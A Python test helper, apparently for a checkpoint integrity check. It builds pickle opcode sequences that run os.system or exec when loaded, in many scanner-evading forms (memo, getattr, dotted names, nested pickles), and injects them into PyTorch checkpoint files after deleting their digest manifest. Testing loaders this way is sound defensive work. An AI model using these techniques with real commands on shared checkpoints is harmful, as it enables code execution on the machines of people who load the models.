"""Pickles that run code when they are loaded, and where a stranger hides them in a checkpoint.

Each leaves a file behind, MARKER, when it runs, and the value of the pickle is what it was before:
whoever loads it notices nothing.
"""

import dataclasses
import io
import pickle
import shutil
import zipfile
from pathlib import Path

import torch

from examples.mimo.checkpoint.integrity import MANIFEST

PLACES = (".metadata", "common_state", "_extra_state", "rng_state", "common.pt")


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def _name(module: str, name: str) -> bytes:
    """A function or class, by GLOBAL, as `torch.save` writes it."""
    return f"c{module}\n{name}\n".encode()


def _call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def shapes(marker: Path) -> dict[str, bytes]:
    """Name -> opcodes that leave one value on the stack after having made the file `marker`."""
    touch, code = _text(f"touch {marker}"), _text(f"open({str(marker)!r}, 'w').close()")
    system = _name("os", "system")
    inner = b"\x80\x02" + _call(system, touch) + b"."
    return {
        "reduce": _call(system, touch),
        "stack global": _call(_text("posix") + _text("system") + b"\x93", touch),
        "inst": b"(" + touch + b"ios\nsystem\n",
        "obj": b"(" + system + touch + b"o",
        # list(map(os.system, [...])): `list` takes what `map` computes.
        "newobj": _call(
            _name("builtins", "list"),
            _name("builtins", "map") + b"(" + system + b"]" + touch + b"at\x81",
        ),
        # functools.partial(print), whose state names another function, called afterwards.
        "build": _name("functools", "partial") + b"(" + _name("builtins", "print") + b"t\x81"
        + b"(" + system + b"(" + touch + b"t}Ntb" + b"(tR",
        "nested": b"}" + _text("args") + b"]" + _call(_name("builtins", "exec"), code) + b"as",
        # Protocol 4 follows the dots.
        "dotted name": b"\x80\x04"
        + _call(_text("torch.serialization") + _text("os.system") + b"\x93", touch),
        # The names stand in the memo, and a harmless call comes first.
        "memo": _text("system") + b"q\xf1" + _text("posix") + b"q\xf0"
        + _call(_name("collections", "OrderedDict"))
        + b"h\xf0h\xf1\x93q\xf2" + b"h\xf2(" + touch + b"tR",
        "getattr": _call(
            _call(
                _name("builtins", "getattr"),
                _call(_name("importlib", "import_module"), _text("os")),
                _text("system"),
            ),
            touch,
        ),
        # A function of torch that unpickles what it is called with.
        "a pickle in a pickle": _call(
            _name("torch.storage", "_load_from_bytes"),
            b"B" + len(_saved(inner)).to_bytes(4, "little") + _saved(inner),
        ),
    }  # fmt: skip


def _saved(pickled: bytes) -> bytes:
    """What `torch.load` takes for a file that `torch.save` wrote, with `pickled` as its value."""
    plain = io.BytesIO()
    torch.save(0, plain)
    return _with_pickle(plain.getvalue(), pickled)


def _with_pickle(saved: bytes, pickled: bytes) -> bytes:
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved)) as old, zipfile.ZipFile(result, "w") as new:
        for name in old.namelist():
            new.writestr(name, pickled if name.endswith("data.pkl") else old.read(name))
    return result.getvalue()


def _after(original: bytes, opcodes: bytes) -> bytes:
    """`original`, with `opcodes` run and their value dropped at its end."""
    # Where `original` stopped there is one opcode without an argument: its last frame ends there.
    return original[:-1] + b"N0" + opcodes + b"0."


def _before_saved(opcodes: bytes, saved: bytes) -> bytes:
    """`saved`, with `opcodes` run first; their value stays on the stack, below the real one."""
    with zipfile.ZipFile(io.BytesIO(saved)) as archive:
        (name,) = (name for name in archive.namelist() if name.endswith("data.pkl"))
        return _with_pickle(saved, b"\x80\x02" + opcodes + archive.read(name))


def hide(source: Path, target: Path, place: str, opcodes: bytes) -> None:
    """Copy the weights in `source`, an iteration of a checkpoint, with `opcodes` in `place`."""
    shutil.copytree(source, target)
    # Whoever writes a payload would write the digests anew, or none.
    (target / MANIFEST).unlink(missing_ok=True)
    file = target / ".metadata"
    if place == ".metadata":
        file.write_bytes(_after(file.read_bytes(), opcodes))
        return
    if place == "common.pt":
        torch.save({"iteration": 1}, target / place)
        saved = (target / place).read_bytes()
        (target / place).write_bytes(_before_saved(opcodes, saved))
        return
    metadata = pickle.loads(file.read_bytes())
    if not any(place in index.fqn for index in metadata.storage_data):
        # Extra states hold nothing without FP8, and are not saved then.
        name = f"decoder.{place}/shard_0_1"
        copied = next(i for i in metadata.storage_data if i.fqn.startswith("rng_state"))
        metadata.state_dict_metadata[name] = metadata.state_dict_metadata[copied.fqn]
        info = dataclasses.replace(metadata.storage_data[copied])
        metadata.storage_data[dataclasses.replace(copied, fqn=name)] = info
    for index, info in metadata.storage_data.items():
        if place in index.fqn.split("/")[0]:
            shard = target / info.relative_path
            data = shard.read_bytes()
            entry = _before_saved(opcodes, data[info.offset : info.offset + info.length])
            info.offset, info.length = len(data), len(entry)
            shard.write_bytes(data + entry)
    file.write_bytes(pickle.dumps(metadata))
